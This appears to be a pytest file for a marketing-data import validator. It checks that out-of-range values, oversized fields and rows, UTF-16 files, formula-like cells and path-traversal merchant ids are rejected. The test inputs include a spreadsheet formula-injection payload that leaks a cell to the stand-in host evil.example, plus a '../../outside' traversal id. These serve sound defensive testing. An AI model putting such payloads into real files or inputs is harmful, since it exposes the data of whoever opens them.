"""Import limits: out-of-range numbers and dates, oversized fields and rows, formula-like text and UTF-16 files are errors by row."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from campaigns.core.identifiers import InvalidMerchantIdError
from campaigns.warehouse import validate
from campaigns.warehouse.landing import clear_landing, write_landing
from campaigns.warehouse.schema import AD_SPEND
from campaigns.warehouse.validate import ImportValidationError, validate_file

SPEND = "date,campaign_id,channel,spend,impressions,clicks\n"
TOUCH = "touchpoint_id,user_id,touched_at,channel,campaign_id,source,medium\n"


def _problems(tmp_path: Path, text: str, kind: str = "spend", encoding: str = "utf-8") -> str:
    path = tmp_path / "f.csv"
    path.write_text(text, encoding=encoding)
    with pytest.raises(ImportValidationError) as info:
        validate_file(path, kind, "acme")
    return str(info.value)


def test_numbers_out_of_range_are_errors_with_the_range(tmp_path: Path) -> None:
    message = _problems(tmp_path, SPEND + "2026-01-01,c1,email,1e308,1e30,99999999999999999999\n2026-01-02,c1,email,5,1,inf\n")
    assert "row 1 (line 2), column 'spend': 1e308 is out of range; an amount from 0 to 1,000,000,000,000 is allowed" in message
    assert "row 1 (line 2), column 'impressions': 1e30 is out of range; a whole number from 0 to 1,000,000,000,000 is allowed" in message
    assert "row 1 (line 2), column 'clicks': 99999999999999999999 is out of range" in message
    assert "row 2 (line 3), column 'clicks': 'inf' is not a whole number" in message


def test_values_at_the_limits_are_kept_exactly(tmp_path: Path) -> None:
    path = tmp_path / "ok.csv"
    path.write_text(SPEND + "1970-01-01,c1,email,1000000000000,1000000000000,0\n2200-12-31,c1,email,0,0,1000000000000\n")
    frame = validate_file(path, "spend", "acme").frame
    assert frame["impressions"].to_list() == [10**12, 0] and frame["clicks"].to_list() == [0, 10**12]
    assert frame["spend"].to_list() == [1e12, 0.0]


def test_dates_outside_the_allowed_years_are_errors(tmp_path: Path) -> None:
    message = _problems(tmp_path, SPEND + "0000-01-01,c1,email,1,1,1\n9999-12-31,c2,email,1,1,1\n")
    assert "row 1 (line 2), column 'date': '0000-01-01' is out of range; dates from 1970-01-01 to 2200-12-31 are allowed" in message
    assert "row 2 (line 3), column 'date': '9999-12-31' is out of range" in message
    touch = _problems(tmp_path, TOUCH + "t1,u1,0001-01-01T00:00:00Z,email,,,\n", "touchpoints")
    assert "column 'touched_at': '0001-01-01T00:00:00Z' is out of range" in touch


def test_oversized_fields_and_rows_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    message = _problems(tmp_path, SPEND + "2026-01-01," + "c" * 50_000_000 + ",email,1,1,1\n")
    assert "row 1 (line 2), column 'campaign_id': 50,000,000 characters; a field holds at most 1,000" in message
    assert "row 1 (line 2): the row holds 50,000,018 characters; at most 8,000" in message
    monkeypatch.setattr(validate, "MAX_ROWS", 2)
    assert "the file has 3 rows; at most 2: split it into smaller files" in _problems(tmp_path, SPEND + "2026-01-01,c1,email,1,1,1\n" * 3)
    monkeypatch.setattr(validate, "MAX_FILE_BYTES", 10)
    assert "bytes; at most 10: split it" in _problems(tmp_path, SPEND + "2026-01-01,c1,email,1,1,1\n")


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?leak="&A1;"x")', "@cmd", "+1", "-2+3"])
def test_formula_like_text_is_refused(tmp_path: Path, cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    message = _problems(tmp_path, TOUCH + f"t1,{quoted},2026-01-01,email,,,\n", "touchpoints")
    assert "row 1 (line 2), column 'user_id'" in message and "which spreadsheets run as a formula" in message


def test_a_utf16_file_is_reported_as_such(tmp_path: Path) -> None:
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        message = _problems(tmp_path, SPEND + "2026-01-01,c1,email,1,1,1\n", encoding=encoding)
        assert "the file is UTF-16 encoded" in message and "missing" not in message


def test_landing_paths_come_from_valid_ids_only(tmp_path: Path) -> None:
    frame = pl.DataFrame({"merchant_id": ["../../outside"], "date": [None], "campaign_id": ["c"], "channel": ["e"], "spend": [1.0],
                          "impressions": [1], "clicks": [1]}).with_columns(pl.col("date").cast(pl.Date))
    with pytest.raises(InvalidMerchantIdError):
        write_landing(tmp_path / "landing", AD_SPEND, frame)
    with pytest.raises(InvalidMerchantIdError):
        clear_landing(tmp_path / "landing", "*")
    with pytest.raises(InvalidMerchantIdError):
        validate_file(tmp_path / "x.csv", "spend", "x/y")
    assert not any(tmp_path.rglob("*.parquet"))
